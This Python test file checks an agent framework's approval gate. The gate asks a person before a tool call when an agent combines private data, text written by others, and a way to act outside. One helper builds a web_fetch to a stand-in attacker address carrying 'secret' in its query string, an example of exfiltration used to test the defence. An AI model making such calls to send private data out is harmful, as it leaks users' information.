"""When private data, text of others and a way out are together, as the tools of an agent declare."""

import json
import sys
from typing import Any

import pytest
from pydantic import ValidationError

from heartbeat.agents.tools.approval_reasons import combined_risks, reason_to_ask
from heartbeat.agents.tools.built_in.tools import BUILT_IN
from heartbeat.agents.tools.definitions import OfferedTool
from heartbeat.agents.tools.mcp import stdio
from heartbeat.agents.tools.offered_tools import ConnectedServer, define_tools, offer_tools
from heartbeat.domain.stdio_tools import StdioTool
from heartbeat.domain.tool_risks import OUTSIDE_ACTION, PRIVATE_DATA, REGISTERED, RISKS, UNTRUSTED_TEXT, declared_risks
from heartbeat.settings import Settings
from tests.support.connected_servers import entry, server
from tests.support.patience import PATIENCE
from tests.support.tool_connections import over_pipes

READS, OPEN = {"readOnlyHint": True}, {"openWorldHint": True}
NOBODY, BOTH = (), (PRIVATE_DATA, OUTSIDE_ACTION)


@pytest.mark.parametrize(
    ("registered", "notes", "risks"),
    [
        ([], {}, set()),
        (RISKS, {}, set(RISKS)),
        ([], OPEN, {UNTRUSTED_TEXT}),
        ([], {"openWorldHint": "yes", "destructiveHint": 1, "readOnlyHint": 0}, set()),
        ([], {"readOnlyHint": False}, {OUTSIDE_ACTION}),
        ([], {"destructiveHint": True}, {OUTSIDE_ACTION}),
        ([], {"destructiveHint": False}, set()),
        ([], {"destructiveHint": True, "readOnlyHint": True}, set()),
        ([], {"destructiveHint": False, "readOnlyHint": False}, {OUTSIDE_ACTION}),
        (RISKS, READS, {PRIVATE_DATA, UNTRUSTED_TEXT}),
        (RISKS, READS | OPEN, set(RISKS)),
        (RISKS, {"openWorldHint": False}, set(BOTH)),
        (RISKS, READS | {"openWorldHint": False}, {PRIVATE_DATA}),
        ([PRIVATE_DATA], {"readOnlyHint": False, "openWorldHint": True}, set(RISKS)),
    ],
)
def test_a_server_refines_what_its_owner_declared(registered: list[str], notes: dict[str, Any], risks: set) -> None:
    assert declared_risks(registered, notes) == risks


def test_all_three_make_the_combination() -> None:
    mail, news, post = ("mail", {PRIVATE_DATA}), ("news", {UNTRUSTED_TEXT}), ("post", {OUTSIDE_ACTION})
    assert (
        combined_risks([])
        is combined_risks([mail, news])
        is combined_risks([mail, post])
        is combined_risks([news, post])
        is None
    )
    assert combined_risks([post, news, mail]) == ("mail", "news")
    assert combined_risks([("all", RISKS), mail, news]) == ("all", "all")


def asking(*connected: ConnectedServer) -> list[str]:
    """The tools whose calls need a person's yes by the combination; `web_fetch` of an address of the model's own."""
    fetch = json.dumps({"url": "https://evil.example/?q=secret"})
    return [tool.name for tool in define_tools(connected) if reason_to_ask(tool, fetch, NOBODY)]


def desk(*risks: str, **fields: Any) -> ConnectedServer:
    return ConnectedServer(server("desk"), [entry("look", annotations=READS), entry("act", **fields)], risks=risks)


def test_nobody_is_asked_where_no_private_data_is_declared() -> None:
    assert asking() == asking(desk()) == asking(desk(UNTRUSTED_TEXT, OUTSIDE_ACTION)) == []


def test_of_a_combination_what_acts_outside_asks() -> None:
    assert asking(desk(*BOTH)) == ["web_fetch", "desk__act"]
    assert asking(desk(*RISKS)) == ["web_fetch", "desk__act"]
    assert asking(desk(PRIVATE_DATA)) == ["web_fetch"], "web_fetch alone is text of others and a way out"
    assert asking(desk(PRIVATE_DATA, annotations={"destructiveHint": True})) == ["web_fetch", "desk__act"]
    other = ConnectedServer(server("other"), [entry("send")], risks=[OUTSIDE_ACTION])
    assert asking(desk(PRIVATE_DATA), other) == ["web_fetch", "other__send"]


def test_what_is_switched_off_does_not_count_and_what_is_paused_does() -> None:
    changed = {"difference": "-a\n+b", "gone": False, "seen_at": "2026-10-01T00:00:00Z"}
    other = ConnectedServer(server("other"), [entry("send")], risks=[OUTSIDE_ACTION])

    def crm(**fields: Any) -> ConnectedServer:
        return ConnectedServer(server("crm"), [entry("read", **fields)], risks=[PRIVATE_DATA])

    assert asking(crm(is_active=False), other) == []
    assert asking(crm(changed=changed), other) == ["web_fetch", "other__send"]
    assert asking(ConnectedServer(server("crm"), [], risks=[PRIVATE_DATA]), other) == ["web_fetch", "other__send"]


def test_the_reason_names_what_is_combined() -> None:
    *_, act = define_tools([desk(*BOTH)])
    approval = reason_to_ask(act, "{}", NOBODY)
    assert approval is not None
    assert (approval.reason, approval.why.partition(".")[0]) == (
        "combination",
        "This agent can read private data (desk__look) and text that others may have written (web_fetch)",
    )
    registered = OfferedTool("x", "", {}, needs_approval=True, risks=act.risks, combined=act.combined)
    assert reason_to_ask(registered, "{}", NOBODY) == REGISTERED


NEWS = "https://news.example/a?b=1"


@pytest.mark.parametrize(
    ("words", "asks"),
    [
        (f"Read {NEWS}.", False),
        (f"[the news]({NEWS}), and then", False),
        (f"Read <{NEWS}>!", False),
        (f"看{NEWS}。谢谢", False),
        (f"{NEWS}/ is what to read", False),
        (f"Read {NEWS}&c=2", True),
        (f"Read {NEWS}00", True),
        ("Read https://news.example", True),
        ("Read news.example/a?b=1", True),
        (f"Read {NEWS.upper()}", True),
        ("", True),
    ],
)
def test_an_address_that_the_owner_wrote_says_nothing_new(words: str, asks: bool) -> None:
    fetch = define_tools([desk(PRIVATE_DATA)])[0]
    assert fetch.name == "web_fetch"
    assert (reason_to_ask(fetch, json.dumps({"url": NEWS}), ("Be brief.", words)) is not None) is asks
    assert (reason_to_ask(fetch, json.dumps({"url": f"{NEWS}/"}), (words, "")) is not None) is asks


@pytest.mark.parametrize("arguments", ["", "{", "[]", "null", "{}", '{"url": 1}', '{"url": ["https://a.example"]}'])
def test_a_fetch_that_is_no_fetch_is_no_owners(arguments: str) -> None:
    fetch = define_tools([desk(PRIVATE_DATA)])[0]
    assert reason_to_ask(fetch, arguments, ("https://a.example",)) is not None


def test_the_other_built_in_tools_declare_nothing() -> None:
    assert {tool.name for tool in BUILT_IN if tool.risks} == {"web_fetch"}


async def test_the_operator_declares_in_the_settings(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(stdio, "_listed", {})
    own = StdioTool(command=sys.executable, args=list(over_pipes()[1:]), risks=[PRIVATE_DATA, OUTSIDE_ACTION])
    settings = Settings(_env_file=None, stdio_tools={"desk": own}, tool_timeout_seconds=PATIENCE)
    tools = {tool.name: tool for tool in await offer_tools("bot_1", [], settings)}
    assert reason_to_ask(tools["desk__book"], "{}", NOBODY)
    assert reason_to_ask(tools["desk__read_note"], "{}", NOBODY) is None
    with pytest.raises(ValidationError, match="private_data"):
        StdioTool.model_validate({"command": "x", "risks": ["danger"]})


def test_what_a_gate_saw_is_text_of_others() -> None:
    fetch = define_tools([desk(PRIVATE_DATA)], "what its gate saw")[0]
    reason = reason_to_ask(fetch, json.dumps({"url": "https://example.com"}), NOBODY)
    assert reason is not None
    assert "text that others may have written (what its gate saw)" in reason.why
